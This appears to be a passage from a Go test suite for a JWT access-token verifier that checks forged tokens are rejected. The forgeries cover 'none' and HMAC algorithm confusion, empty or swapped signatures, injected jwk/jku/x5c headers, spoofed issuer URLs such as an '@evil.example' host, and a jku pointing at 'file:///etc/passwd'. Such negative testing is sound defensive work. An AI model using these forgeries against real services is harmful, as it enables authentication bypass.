package accesstoken_test

import (
	"bytes"
	"compress/flate"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha1"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"hash"
	"io"
	"maps"
	"math/big"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"github.com/innkeeper-auth/innkeeper"
	"github.com/innkeeper-auth/innkeeper/accesstoken"
	"github.com/innkeeper-auth/innkeeper/innkeepertest"
	"github.com/innkeeper-auth/innkeeper/internal/strictjson"
	"github.com/innkeeper-auth/innkeeper/verify"
)

// TestAttack walks the list of known attacks on JWTs, one item after the other,
// with every kind of key. The first variants of most items stand in
// verify_test.go and key_test.go under the same numbers, and are not repeated
// here. The numbers are those of our checklist of RFC 8725, 9068 and 7515.
func TestAttack(t *testing.T) {
	k := attackKeys{newKey(t, accesstoken.ES256), newKey(t, accesstoken.RS256), newKey(t, accesstoken.EdDSA)}
	for _, item := range []struct {
		name string
		run  func(*testing.T, attackKeys)
	}{
		{"A1_typ", attackType},
		{"A2_required_claims", attackMissingClaims},
		{"A3_unsigned", attackUnsigned},
		{"A4_issuer_and_audience", attackNames},
		{"A5_expiry", attackExpiry},
		{"A6_numbers", attackNumbers},
		{"A7_algorithm_of_the_key", attackAlgorithm},
		{"A8_crit", attackCritical},
		{"A9_keys_in_the_header", attackEmbeddedKeys},
		{"A10_compact_form", attackForm},
		{"A11_base64url", attackEncoding},
		{"A12_duplicate_members", attackDuplicates},
		{"A13_RSA_padding", attackRSAPadding},
		{"A14_signature_numbers", attackSignatureNumbers},
		{"A15_weak_keys", attackWeakKeys},
		{"A16_curves", attackCurves},
		{"A17_kid", attackKeyID},
		{"A18_key_fetches", attackKeyFetches},
		{"A19_size_and_depth", attackSize},
		{"A20_other_tokens", attackOtherTokens},
		{"A21_subject", attackSubject},
		{"A22_content", attackContent},
		{"A23_none", attackNone},
	} {
		t.Run(item.name, func(t *testing.T) { item.run(t, k) })
	}
}

// attackKeys are the keys of an issuer with one of each kind.
type attackKeys struct{ es, rs, ed issuerKey }

func (k attackKeys) all() []issuerKey { return []issuerKey{k.es, k.rs, k.ed} }

// each makes the attacks on each kind of key, and checks first that a token is
// good where nobody attacks it.
func (k attackKeys) each(t *testing.T, make func(issuerKey) []attack) {
	t.Helper()
	for _, key := range k.all() {
		t.Run(string(key.Algorithm()), func(t *testing.T) {
			attacks := []attack{{"none", key.sign(t, key.header(), payload(t, nil)), nil}}
			run(t, append(attacks, make(key)...), k.all()...)
		})
	}
}

// head returns the right header with one member, which it has, set to any JSON,
// or left out.
func (k issuerKey) head(member, value string) string {
	members := []string{`"typ":"at+jwt"`, fmt.Sprintf(`"alg":%q`, k.Algorithm()), fmt.Sprintf(`"kid":%q`, k.KeyID())}
	at := slices.IndexFunc(members, func(m string) bool { return strings.HasPrefix(m, `"`+member+`"`) })
	if value == "" {
		members = slices.Delete(members, at, at+1)
	} else {
		members[at] = fmt.Sprintf(`%q:%s`, member, value)
	}
	return "{" + strings.Join(members, ",") + "}"
}

// extended returns the right header with more members at its end.
func (k issuerKey) extended(more string) string {
	return strings.TrimSuffix(k.header(), "}") + "," + more + "}"
}

// quote is text as JSON, with every character that JSON allows in the clear.
func quote(text string) string {
	quoted, err := json.Marshal(text)
	if err != nil {
		panic(err)
	}
	return string(quoted)
}

// withSignature replaces the signature of a token.
func withSignature(token string, signature []byte) string {
	return token[:strings.LastIndexByte(token, '.')+1] + base64.RawURLEncoding.EncodeToString(signature)
}

func signatureOf(t *testing.T, token string) []byte {
	t.Helper()
	signature, err := base64.RawURLEncoding.DecodeString(token[strings.LastIndexByte(token, '.')+1:])
	if err != nil {
		t.Fatal(err)
	}
	return signature
}

// Also in TestTokenKinds.
func attackType(t *testing.T, k attackKeys) {
	k.each(t, func(key issuerKey) []attack {
		var attacks []attack
		for _, typ := range []string{
			"", `""`, `null`, `true`, `0`, `["at+jwt"]`, `{"at+jwt":true}`, `"JWT"`, `"dpop+jwt"`, `"logout+jwt"`,
			`"secevent+jwt"`, `"dbsc+jwt"`, `"at+jwt,JWT"`, `"JWT at+jwt"`, `"at%2Bjwt"`, `"at+jwt\u200b"`, `"\ufeffat+jwt"`,
			`"ａｔ+jwt"`, `"аt+jwt"`, `"at+jwt+jwt"`, `"at+jwt\n"`, `"application/at+jwt;charset=utf-8"`, `"application//at+jwt"`,
		} {
			attacks = append(attacks, attack{typ, key.sign(t, key.head("typ", typ), payload(t, nil)), accesstoken.ErrMalformed})
		}
		return append(attacks,
			attack{"in the payload instead", key.sign(t, key.head("typ", ""), payload(t, map[string]any{"typ": "at+jwt"})), accesstoken.ErrMalformed},
			attack{"as cty", key.sign(t, strings.Replace(key.header(), `"typ"`, `"cty"`, 1), payload(t, nil)), accesstoken.ErrMalformed},
			attack{"in another case of the name", key.sign(t, strings.Replace(key.header(), `"typ"`, `"TYP"`, 1), payload(t, nil)), accesstoken.ErrMalformed},
			attack{"the same by escapes", key.sign(t, key.head("typ", `"\u0061t\u002bjwt"`), payload(t, nil)), nil},
		)
	})
}

// Also in TestClaims.
func attackMissingClaims(t *testing.T, k attackKeys) {
	k.each(t, func(key issuerKey) []attack {
		var attacks []attack
		plain := payload(t, nil)
		for _, claim := range []string{"iss", "exp", "aud", "sub", "client_id", "iat", "jti"} {
			less := payload(t, map[string]any{claim: nil})
			var members map[string]json.RawMessage
			if err := json.Unmarshal([]byte(plain), &members); err != nil {
				t.Fatal(err)
			}
			for name, token := range map[string]string{
				"left out":        key.sign(t, key.header(), less),
				"null":            key.sign(t, key.header(), payload(t, map[string]any{claim: raw("null")})),
				"in upper case":   key.sign(t, key.header(), strings.Replace(plain, `"`+claim+`"`, `"`+strings.ToUpper(claim)+`"`, 1)),
				"with a space":    key.sign(t, key.header(), strings.Replace(plain, `"`+claim+`"`, `"`+claim+` "`, 1)),
				"in the header":   key.sign(t, key.extended(fmt.Sprintf("%q:%s", claim, members[claim])), less),
				"one level below": key.sign(t, key.header(), payload(t, map[string]any{claim: nil, "claims": raw(plain)})),
			} {
				attacks = append(attacks, attack{claim + " " + name, token, accesstoken.ErrClaims})
			}
		}
		return append(attacks,
			attack{"no claims at all", key.sign(t, key.header(), `{}`), accesstoken.ErrClaims},
			attack{"a list of claims", key.sign(t, key.header(), `[`+plain+`]`), accesstoken.ErrClaims},
			attack{"text of claims", key.sign(t, key.header(), quote(plain)), accesstoken.ErrClaims})
	})
}

// Also in TestAlgorithmConfusion.
func attackUnsigned(t *testing.T, k attackKeys) {
	k.each(t, func(key issuerKey) []attack {
		good := key.sign(t, key.header(), payload(t, nil))
		size := len(signatureOf(t, good))
		other := key.sign(t, key.header(), payload(t, map[string]any{"sub": "root"}))
		head, body := b64(key.header()), b64(payload(t, map[string]any{"sub": "root"}))
		return []attack{
			{"no signature", withSignature(good, nil), accesstoken.ErrSignature},
			{"no signature, no dot", good[:strings.LastIndexByte(good, '.')], accesstoken.ErrMalformed},
			{"zeros", withSignature(good, make([]byte, size)), accesstoken.ErrSignature},
			{"ones", withSignature(good, bytes.Repeat([]byte{0xff}, size)), accesstoken.ErrSignature},
			{"one byte", withSignature(good, []byte{0}), accesstoken.ErrSignature},
			{"the word null", good[:strings.LastIndexByte(good, '.')] + ".null", accesstoken.ErrSignature},
			{"of another token", withSignature(good, signatureOf(t, other)), accesstoken.ErrSignature},
			{"payload changed", head + "." + body + good[strings.LastIndexByte(good, '.'):], accesstoken.ErrSignature},
			{"header changed", b64(key.extended(`"x":1`)) + good[strings.IndexByte(good, '.'):], accesstoken.ErrSignature},
			{"of the payload only", withSignature(good, signatureOf(t, key.signSegments(t, body))), accesstoken.ErrSignature},
			{"of the texts decoded", withSignature(good, signatureOf(t, key.signSegments(t, key.header()+"."+payload(t, nil)))), accesstoken.ErrSignature},
			{"none", key.sign(t, key.head("alg", `"none"`), payload(t, nil)), accesstoken.ErrMalformed},
		}
	})
}

// Also in TestClaims.
func attackNames(t *testing.T, k attackKeys) {
	with := func(claim string, value any) string {
		return k.es.sign(t, k.es.header(), payload(t, map[string]any{claim: value}))
	}
	var attacks []attack
	for _, iss := range []string{
		issuer + "/", issuer + ".", issuer + " ", " " + issuer, issuer + "\x00", issuer + "?", issuer + "#", issuer + ":443", issuer + "/.",
		"http://auth.example.com", "HTTPS://auth.example.com", "https://user@auth.example.com", "https://auth.example.com@evil.example",
		"https://auth.example.com.evil.example", "https://аuth.example.com", "https://auth%2eexample.com", "auth.example.com",
		issuer + "\n" + issuer, issuer[:len(issuer)-1],
	} {
		attacks = append(attacks, attack{"iss " + quote(iss), with("iss", iss), accesstoken.ErrIssuer})
	}
	for _, aud := range []string{
		"*", "https://*.example.com", audience + "/", audience + "/v1", audience + " ", audience + "\x00", audience + ":443",
		audience[:len(audience)-1], "x" + audience, audience + " " + audience, audience + ",https://other.example.com",
		strings.ToUpper(audience), "https://аpi.example.com", issuer, quote(audience), `["` + audience + `"]`,
	} {
		attacks = append(attacks,
			attack{"aud " + quote(aud), with("aud", aud), accesstoken.ErrAudience},
			attack{"aud list of " + quote(aud), with("aud", []string{aud, aud}), accesstoken.ErrAudience})
	}
	for _, value := range []string{`1`, `true`, `[]`, `["` + issuer + `"]`, `{}`, `{"$ne":null}`, `null`, `""`} {
		for _, claim := range []string{"iss", "sub", "client_id", "jti"} {
			attacks = append(attacks, attack{claim + " " + value, with(claim, raw(value)), accesstoken.ErrClaims})
		}
	}
	for _, value := range []string{`1`, `true`, `[1]`, `[[]]`, `[null]`, `[""]`, `{"0":"` + audience + `"}`, `["` + audience + `",1]`, `null`} {
		attacks = append(attacks, attack{"aud " + value, with("aud", raw(value)), accesstoken.ErrClaims})
	}
	attacks = append(attacks, attack{"aud last of many", with("aud", append(slices.Repeat([]string{"https://x.example"}, 99), audience)), nil})
	run(t, attacks, k.all()...)
}

// Also in TestExpiryBoundary, and in verify.TestSkew over the verifier's clock.
func attackExpiry(t *testing.T, k attackKeys) {
	for _, key := range k.all() {
		for _, skew := range []time.Duration{0, time.Second, 5 * time.Minute} {
			token := key.sign(t, key.header(), payload(t, map[string]any{"exp": start().Unix(), "iat": start().Unix() - 900}))
			for _, tt := range []struct {
				now  time.Time
				want error
			}{
				{start().Add(skew - time.Second), nil},
				{start().Add(skew - 1), nil},
				{start().Add(skew), accesstoken.ErrExpired}, // exp == now - skew: a token lives up to exp, not through it
				{start().Add(skew + 1), accesstoken.ErrExpired},
				{start().Add(skew + 24*time.Hour), accesstoken.ErrExpired},
				{time.Time{}, accesstoken.ErrExpired},
			} {
				want := accesstoken.Expectation{Issuer: issuer, Audience: audience, Now: tt.now, Skew: skew}
				if _, err := accesstoken.Verify(token, lookup(key), want); !errors.Is(err, tt.want) {
					t.Errorf("%s at %v with skew %v: %v, want %v", key.Algorithm(), tt.now, skew, err, tt.want)
				}
			}
		}
	}
	// What else could make an expired token live: other names and places for exp.
	expired := payload(t, map[string]any{"exp": start().Unix() - 1})
	var attacks []attack
	for name, token := range map[string]string{
		"EXP":               k.ed.sign(t, k.ed.header(), strings.TrimSuffix(expired, "}")+`,"EXP":9999999999,"Exp":9999999999}`),
		"exp in the header": k.ed.sign(t, k.ed.extended(`"exp":9999999999`), expired),
		"expires_in":        k.ed.sign(t, k.ed.header(), strings.TrimSuffix(expired, "}")+`,"expires_in":9999999999}`),
		"iat in the future": k.ed.sign(t, k.ed.header(), payload(t, map[string]any{"exp": start().Unix() - 1, "iat": start().Unix() + 900})),
		"exp of 1970":       k.ed.sign(t, k.ed.header(), payload(t, map[string]any{"exp": 0})),
	} {
		attacks = append(attacks, attack{name, token, accesstoken.ErrExpired})
	}
	run(t, attacks, k.all()...)
}

// Also in TestClaims.
func attackNumbers(t *testing.T, k attackKeys) {
	const later = "1800000900" // start and 15 minutes
	var attacks []attack
	with := func(claim, value string) string {
		text := payload(t, map[string]any{claim: 4242})
		return k.ed.sign(t, k.ed.header(), strings.Replace(text, "4242", value, 1))
	}
	for _, claim := range []string{"exp", "iat", "nbf", "auth_time"} {
		for _, value := range []string{
			`"` + later + `"`, `"1e10"`, `"Infinity"`, `"0x7fffffff"`, `""`, `true`, `false`, `[]`, `[` + later + `]`, `{}`, `{"$gt":0}`,
			`-1`, `-0`, `-0.0`, `-` + later, `-1e400`, `1e400`, `1e309`, `1e308`, `1E+99999999`, `9223372036854775807`,
			`9223372036854775808`, `18446744073709551616`, `18446744075509552516`, `4611686018427387904`, `253402300800`,
			strings.Repeat("9", 400), later + strings.Repeat("0", 4000),
			`NaN`, `Infinity`, `-Infinity`, `nan`, `+` + later, `0` + later, `0x6b49d584`, later + `.`, `.5`, `1e`, `1e+`, `1_800_000_900`,
			later + ` ` + later, `1,800,000,900`, later + `n`, `１８００００００００`, `undefined`, ``,
		} {
			attacks = append(attacks, attack{fmt.Sprintf("%s %.40s", claim, value), with(claim, value), accesstoken.ErrClaims})
		}
	}
	for _, value := range []string{`0`, `1e-400`, `0.0000001`, `0e99999999`, `1799999999.999999`, `1.8e9`} {
		attacks = append(attacks, attack{"exp has passed at " + value, with("exp", value), accesstoken.ErrExpired})
	}
	for _, value := range []string{later, later + ".5", later + "." + strings.Repeat("9", 400), "1.8000009e9", "18000009E2", "253402300799"} {
		attacks = append(attacks, attack{fmt.Sprintf("exp is yet to come at %.40s", value), with("exp", value), nil})
	}
	for value, want := range map[string]error{
		`0`: nil, `1800000000`: nil, `1800000000.9`: nil, `1800000001`: accesstoken.ErrNotYetValid, `253402300799`: accesstoken.ErrNotYetValid,
	} {
		attacks = append(attacks, attack{"nbf " + value, with("nbf", value), want})
	}
	run(t, attacks, k.all()...)
}

// Also in TestAlgorithmConfusion.
func attackAlgorithm(t *testing.T, k attackKeys) {
	var attacks []attack
	// Every key under every other's name and algorithm. Only a full match passes.
	for _, signer := range k.all() {
		for _, named := range k.all() {
			for _, alg := range k.all() {
				want := accesstoken.ErrSignature
				if signer.KeyID() == named.KeyID() && named.KeyID() == alg.KeyID() {
					want = nil
				}
				attacks = append(attacks, attack{
					fmt.Sprintf("signed %s, kid of %s, alg %s", signer.Algorithm(), named.Algorithm(), alg.Algorithm()),
					signer.sign(t, named.head("alg", quote(string(alg.Algorithm()))), payload(t, nil)), want,
				})
			}
		}
	}
	// HMAC with what everybody can know of a key, under its own name and as a claim
	// to be what the key wants.
	for _, key := range k.all() {
		for name, secret := range publicBytes(t, key) {
			for hash, method := range map[string]*jwt.SigningMethodHMAC{
				"HS256": jwt.SigningMethodHS256, "HS384": jwt.SigningMethodHS384, "HS512": jwt.SigningMethodHS512,
			} {
				for alg, want := range map[string]error{hash: accesstoken.ErrMalformed, string(key.Algorithm()): accesstoken.ErrSignature} {
					signed := b64(key.head("alg", quote(alg))) + "." + b64(payload(t, nil))
					mac, err := method.Sign(signed, secret)
					if err != nil {
						t.Fatal(err)
					}
					attacks = append(attacks, attack{
						fmt.Sprintf("%s with the %s of %s, called %s", hash, name, key.Algorithm(), alg),
						signed + "." + base64.RawURLEncoding.EncodeToString(mac), want,
					})
				}
			}
		}
	}
	run(t, attacks, k.all()...)
}

// publicBytes returns every form of a public key that a confused verifier might
// hold in its hand.
func publicBytes(t *testing.T, key issuerKey) map[string][]byte {
	t.Helper()
	public := key.private.Public()
	der, err := x509.MarshalPKIXPublicKey(public)
	if err != nil {
		t.Fatal(err)
	}
	text := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	jwk, err := key.Public().MarshalJWK()
	if err != nil {
		t.Fatal(err)
	}
	secrets := map[string][]byte{
		"DER": der, "PEM": text, "PEM without its last line feed": bytes.TrimSpace(text),
		"PEM with CR LF": bytes.ReplaceAll(text, []byte("\n"), []byte("\r\n")), "DER in base64": []byte(base64.StdEncoding.EncodeToString(der)),
		"JWK": jwk, "JWK set": fmt.Appendf(nil, `{"keys":[%s]}`, jwk), "kid": []byte(key.KeyID()), "nothing": {}, "NUL": {0},
	}
	switch public := public.(type) {
	case *rsa.PublicKey:
		secrets["PKCS#1 DER"] = x509.MarshalPKCS1PublicKey(public)
		secrets["PKCS#1 PEM"] = pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(public)})
		secrets["modulus"] = public.N.Bytes()
		secrets["modulus in base64url"] = []byte(base64.RawURLEncoding.EncodeToString(public.N.Bytes()))
	case *ecdsa.PublicKey:
		point, err := public.Bytes()
		if err != nil {
			t.Fatal(err)
		}
		secrets["point"], secrets["x"] = point, point[1:33]
	case ed25519.PublicKey:
		secrets["bytes"] = public
	}
	return secrets
}

// Also in TestHeaderExtras.
func attackCritical(t *testing.T, k attackKeys) {
	k.each(t, func(key issuerKey) []attack {
		var attacks []attack
		for _, crit := range []string{
			`["exp"],"exp":9999999999`, `["b64"],"b64":false`, `["b64"],"b64":true`, `["alg"]`, `["typ","kid"]`, `["crit"]`, `["x","x"],"x":1`,
			`["http://example.com/UNDEFINED"],"http://example.com/UNDEFINED":true`, `[]`, `[""]`, `[null]`, `null`, `"b64"`, `{}`, `0`, `false`,
			`["absent"]`,
		} {
			token := key.sign(t, key.extended(`"crit":`+crit), payload(t, nil))
			attacks = append(attacks, attack{crit, token, accesstoken.ErrMalformed})
		}
		// RFC 7797: a payload that is not encoded, with and without saying that it matters.
		unencoded := strings.ReplaceAll(payload(t, nil), ".", "")
		for _, more := range []string{`"b64":false,"crit":["b64"]`, `"b64":false`} {
			attacks = append(attacks, attack{"unencoded payload " + more,
				key.signSegments(t, b64(key.extended(more))+"."+unencoded), accesstoken.ErrMalformed})
		}
		return append(attacks,
			attack{"b64 false and not critical, payload encoded", key.sign(t, key.extended(`"b64":false`), payload(t, nil)), nil})
	})
}

// Also in TestHeaderExtras. Here the attacker's keys are there to be fetched, and
// nobody does.
func attackEmbeddedKeys(t *testing.T, k attackKeys) {
	var hits atomic.Int64
	var set []byte
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		hits.Add(1)
		_, _ = w.Write(set)
	}))
	defer server.Close()
	for _, key := range k.all() {
		foreign := newKey(t, key.Algorithm())
		jwk, err := foreign.Public().MarshalJWK()
		if err != nil {
			t.Fatal(err)
		}
		set = fmt.Appendf(nil, `{"keys":[%s]}`, jwk)
		template := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: start().AddDate(9, 0, 0)}
		certificate, err := x509.CreateCertificate(rand.Reader, template, template, foreign.private.Public(), foreign.private)
		if err != nil {
			t.Fatal(err)
		}
		x5c, thumbprint := base64.StdEncoding.EncodeToString(certificate), sha256.Sum256(certificate)
		var attacks []attack
		for name, more := range map[string]string{
			"jwk":      `"jwk":` + string(jwk),
			"jku":      `"jku":` + quote(server.URL),
			"x5u":      `"x5u":` + quote(server.URL),
			"x5c":      `"x5c":[` + quote(x5c) + `]`,
			"x5t#S256": `"x5t#S256":` + quote(base64.RawURLEncoding.EncodeToString(thumbprint[:])),
			"jku file": `"jku":"file:///etc/passwd"`,
			"all":      `"jwk":` + string(jwk) + `,"jku":` + quote(server.URL) + `,"x5u":` + quote(server.URL) + `,"x5c":[` + quote(x5c) + `]`,
		} {
			attacks = append(attacks,
				attack{name + " beside our kid", foreign.sign(t, key.extended(more), payload(t, nil)), accesstoken.ErrSignature},
				attack{name + " beside their kid", foreign.sign(t, foreign.extended(more), payload(t, nil)), accesstoken.ErrUnknownKey},
				attack{name + " instead of a kid", foreign.sign(t, strings.TrimSuffix(foreign.head("kid", ""), "}")+","+more+"}", payload(t, nil)), accesstoken.ErrMalformed},
				attack{name + " in a token of ours", key.sign(t, key.extended(more), payload(t, nil)), nil})
		}
		t.Run(string(key.Algorithm()), func(t *testing.T) { run(t, attacks, k.all()...) })
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the attacker's server was asked %d times", n)
	}
}

// Also in TestForm. Nothing of these is decoded as far as a kid.
func attackForm(t *testing.T, k attackKeys) {
	for _, key := range k.all() {
		good := key.sign(t, key.header(), payload(t, nil))
		s := strings.Split(good, ".")
		for name, token := range map[string]string{
			"empty": "", "one dot": ".", "two dots": "..", "three dots": "...", "four dots": "....",
			"one segment": s[0], "two segments": s[0] + "." + s[1], "four segments": good + "." + s[2], "trailing dot": good + ".",
			"leading dot": "." + good, "twice": good + good, "two tokens": good + " " + good, "two tokens with a comma": good + "," + good,
			"JWE":               strings.Join([]string{b64(`{"alg":"dir","enc":"A256GCM","kid":` + quote(key.KeyID()) + `}`), "", b64("123456789012"), b64("x"), b64("1234567890123456")}, "."),
			"JWE around it":     strings.Join([]string{b64(`{"alg":"RSA-OAEP","enc":"A256GCM","cty":"at+jwt"}`), s[0], s[1], s[2], s[0]}, "."),
			"JSON flattened":    fmt.Sprintf(`{"protected":%q,"payload":%q,"signature":%q}`, s[0], s[1], s[2]),
			"JSON general":      fmt.Sprintf(`{"payload":%q,"signatures":[{"protected":%q,"signature":%q}]}`, s[1], s[0], s[2]),
			"JSON and dots":     fmt.Sprintf(`{"payload":%q,"signature":%q,"protected":%q,"x":"a.b.c"}`, s[1], s[2], s[0]),
			"JSON in a segment": fmt.Sprintf(`{"protected":%q}.%s.%s`, s[0], s[1], s[2]),
			"JSON text":         quote(good), "in brackets": "<" + good + ">", "scheme left in": "Bearer " + good,
			"header not encoded":         key.header() + "." + s[1] + "." + s[2],
			"ideographic full stops":     strings.ReplaceAll(good, ".", "。"),
			"percent-encoded dots":       strings.ReplaceAll(good, ".", "%2E"),
			"reversed":                   s[2] + "." + s[1] + "." + s[0],
			"header of nothing":          "." + s[1] + "." + s[2],
			"UTF-16":                     "\xfe\xff" + strings.Join(strings.Split(good, ""), "\x00"),
			"byte order mark":            "\ufeff" + good,
			"leading space":              " " + good,
			"trailing NUL and more dots": good + "\x00..",
		} {
			_, err := accesstoken.Verify(token, func(string) (accesstoken.PublicKey, bool) {
				t.Errorf("%s, %s: a key was looked up", key.Algorithm(), name)
				return key.Public(), true
			}, expectation())
			if !errors.Is(err, accesstoken.ErrMalformed) {
				t.Errorf("%s, %s: %v, want ErrMalformed", key.Algorithm(), name, err)
			}
		}
		// A detached payload (RFC 7515, appendix F) is a token of nothing.
		run(t, []attack{{"detached " + s[2][:4], s[0] + ".." + s[2], accesstoken.ErrSignature}}, key)
	}
}

// Also in TestForm and TestSpareBits. The first variants are those of Wycheproof
// 360 to 375, with a key that we support: there they come with HMAC, and fall for
// that.
func attackEncoding(t *testing.T, k attackKeys) {
	k.each(t, func(key issuerKey) []attack {
		good := key.sign(t, key.header(), payload(t, nil))
		s := strings.Split(good, ".")
		signed := func(header, payload string) string { return key.signSegments(t, header+"."+payload) }
		var attacks []attack
		for name, token := range map[string]string{
			"360 spaces in the signature":     s[0] + "." + s[1] + ".    " + s[2],
			"361 ? before the signature":      s[0] + "." + s[1] + ".?" + s[2],
			"362 ? after the signature":       good + "?",
			"363 ? in the signature":          s[0] + "." + s[1] + ".?" + s[2][1:],
			"364 ???? in the signature":       s[0] + "." + s[1] + ".????" + s[2][4:],
			"365 spaces in the header":        signed(s[0]+"    ", s[1]),
			"366 #### in the header":          signed(s[0]+"####", s[1]),
			"367 padding of the header":       signed(padded(key.header()), s[1]),
			"368 spaces in the payload":       signed(s[0], "    "+s[1]),
			"369 #### in the payload":         signed(s[0], "####"+s[1]),
			"370 padding of the payload":      signed(s[0], padded(payload(t, nil))),
			"371 ? in the payload":            signed(s[0], "?"+s[1]),
			"372 ? in the header, afterwards": s[0][:len(s[0])-1] + "?" + s[0][len(s[0])-1:] + "." + s[1] + "." + s[2],
			"373 ? in the payload afterwards": s[0] + "." + s[1] + "?." + s[2],
			"374 spare bits of the payload":   signed(s[0], "AB"),
			"one character too many":          signed(s[0], b64("abc")+"A"),
			"standard alphabet":               signed(s[0], base64.RawStdEncoding.EncodeToString([]byte("\xfb\xff\xfe"+payload(t, nil)))),
			"percent-encoded padding":         signed(s[0], s[1]+"%3D"),
			"line breaks of MIME":             signed(s[0], s[1][:64]+"\r\n"+s[1][64:]),
			"trailing CR LF":                  good + "\r\n",
			"zero-width space":                signed(s[0], s[1]+"\u200b"),
			"line feed alone as payload":      signed(s[0], "\n"),
		} {
			attacks = append(attacks, attack{name, token, accesstoken.ErrMalformed})
		}
		// Every other spelling of the last character, in each segment that has spare
		// bits. Header and payload are signed as they are spelled.
		for i := range 3 {
			for _, last := range respelled(s[i]) {
				segments := slices.Clone(s)
				segments[i] = last
				token := strings.Join(segments, ".")
				if i < 2 {
					token = signed(segments[0], segments[1])
				}
				attacks = append(attacks, attack{fmt.Sprintf("spare bits of segment %d: %s", i, last[len(last)-1:]), token, accesstoken.ErrMalformed})
			}
		}
		return attacks
	})
}

// padded encodes text so that there is padding: with a space more if need be.
func padded(text string) string {
	if len(text)%3 == 0 {
		text += " "
	}
	return base64.URLEncoding.EncodeToString([]byte(text))
}

// respelled returns all texts but the given one that a lax decoder takes for the
// same bytes.
func respelled(segment string) []string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	spare := map[int]int{2: 4, 3: 2}[len(segment)%4] // bits
	var others []string
	last := strings.IndexByte(alphabet, segment[len(segment)-1])
	for bits := 1; bits < 1<<spare; bits++ {
		others = append(others, segment[:len(segment)-1]+alphabet[last+bits:last+bits+1])
	}
	return others
}

// Also in TestAmbiguousJSON.
func attackDuplicates(t *testing.T, k attackKeys) {
	k.each(t, func(key issuerKey) []attack {
		var attacks []attack
		plain := payload(t, nil)
		for member, value := range map[string]string{
			"typ": `"at+jwt"`, "alg": quote(string(key.Algorithm())), "kid": quote(key.KeyID()), "unknown": `1`, "jwk": `{}`,
		} {
			for _, other := range []string{value, `"none"`, `null`} {
				first := fmt.Sprintf(`{%q:%s,%q:%s,`, member, other, member, value) + key.header()[1:]
				last := key.extended(fmt.Sprintf(`%q:%s,"\u%04x%s":%s`, member, value, member[0], member[1:], other))
				attacks = append(attacks,
					attack{"header, first, " + member + " " + other, key.sign(t, first, plain), accesstoken.ErrMalformed},
					attack{"header, last, " + member + " " + other, key.sign(t, last, plain), accesstoken.ErrMalformed})
			}
		}
		for claim, value := range map[string]string{
			"iss": quote(issuer), "aud": quote(audience), "sub": `"root"`, "exp": `9999999999`, "iat": `0`, "jti": `"x"`, "client_id": `"x"`,
		} {
			twice := fmt.Sprintf(`%q:%s`, claim, value)
			escaped := fmt.Sprintf(`"\u%04x%s":%s`, claim[0], claim[1:], value)
			attacks = append(attacks,
				attack{"claim, first, " + claim, key.sign(t, key.header(), "{"+twice+","+plain[1:]), accesstoken.ErrClaims},
				attack{"claim, last, " + claim, key.sign(t, key.header(), plain[:len(plain)-1]+","+twice+"}"), accesstoken.ErrClaims},
				attack{"claim, escaped, " + claim, key.sign(t, key.header(), plain[:len(plain)-1]+","+escaped+"}"), accesstoken.ErrClaims},
				attack{"claim, below, " + claim, key.sign(t, key.header(), plain[:len(plain)-1]+`,"x":[{`+twice+","+twice+"}]}"), accesstoken.ErrClaims})
		}
		// A name in another case is a member that we do not know: beside the right one it
		// changes nothing, and in its place it does not do.
		for _, member := range []string{"typ", "alg", "kid"} {
			for _, name := range []string{strings.ToUpper(member), strings.ToUpper(member[:1]) + member[1:]} {
				beside := key.extended(fmt.Sprintf(`%q:"none"`, name))
				instead := strings.Replace(key.header(), `"`+member+`"`, `"`+name+`"`, 1)
				attacks = append(attacks,
					attack{"header, beside, " + name, key.sign(t, beside, plain), nil},
					attack{"header, instead, " + name, key.sign(t, instead, plain), accesstoken.ErrMalformed})
			}
		}
		return append(attacks,
			attack{"header in a header", key.sign(t, `{"x":`+key.header()+`}`, plain), accesstoken.ErrMalformed},
			attack{"two headers", key.sign(t, key.header()+key.header(), plain), accesstoken.ErrMalformed},
			attack{"comment", key.sign(t, key.header(), plain[:1]+"/**/"+plain[1:]), accesstoken.ErrClaims},
			attack{"trailing comma", key.sign(t, key.header(), plain[:len(plain)-1]+",}"), accesstoken.ErrClaims},
			attack{"half a surrogate pair", key.sign(t, key.header(), plain[:len(plain)-1]+`,"sub\ud800":"x"}`), accesstoken.ErrClaims})
	})
}

// Also in TestAlgorithmConfusion; 226 more are the third group of Wycheproof.
func attackRSAPadding(t *testing.T, k attackKeys) {
	private := k.rs.private.(*rsa.PrivateKey)
	var attacks []attack
	for alg, h := range map[string]crypto.Hash{"PS256": crypto.SHA256, "PS384": crypto.SHA384, "PS512": crypto.SHA512} {
		for _, salt := range []int{rsa.PSSSaltLengthEqualsHash, rsa.PSSSaltLengthAuto, 0, 20, 64} {
			for name, want := range map[string]error{alg: accesstoken.ErrMalformed, "RS256": accesstoken.ErrSignature} {
				good := k.rs.sign(t, k.rs.head("alg", quote(name)), payload(t, nil))
				digest := h.New()
				digest.Write([]byte(good[:strings.LastIndexByte(good, '.')]))
				signature, err := rsa.SignPSS(rand.Reader, private, h, digest.Sum(nil), &rsa.PSSOptions{SaltLength: salt})
				if err != nil {
					t.Fatal(err)
				}
				attacks = append(attacks, attack{fmt.Sprintf("%s, salt %d, called %s", alg, salt, name), withSignature(good, signature), want})
			}
		}
	}

	good := k.rs.sign(t, k.rs.header(), payload(t, nil))
	for name, h := range map[crypto.Hash]hash.Hash{crypto.SHA1: sha1.New(), crypto.SHA384: sha512.New384(), crypto.SHA512: sha512.New()} {
		h.Write([]byte(good[:strings.LastIndexByte(good, '.')]))
		signature, err := rsa.SignPKCS1v15(nil, private, name, h.Sum(nil))
		if err != nil {
			t.Fatal(err)
		}
